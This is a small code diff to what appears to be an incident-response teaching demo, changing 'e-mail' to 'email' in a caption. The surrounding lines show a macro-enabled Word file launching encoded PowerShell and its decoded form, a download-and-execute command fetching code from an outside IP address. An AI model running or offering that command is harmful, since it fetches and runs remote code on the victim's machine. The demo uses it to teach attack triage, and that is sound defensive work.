@@ -84,7 +84,7 @@ const triage: Demonstration = {
         '09:14:20  winword.exe   opened invoice_0914.docm',
         '09:14:22  powershell.exe -enc SQBFAFgA...',
       ],
-      caption: 'The minute before: a document with macros came by e-mail and was opened. The command is encoded.',
+      caption: 'The minute before: a document with macros came by email and was opened. The command is encoded.',
     },
     {
       lines: ['$ decode SQBFAFgA...', 'IEX (New-Object Net.WebClient)', '  .DownloadString("http://203.0.113.44/u")'],
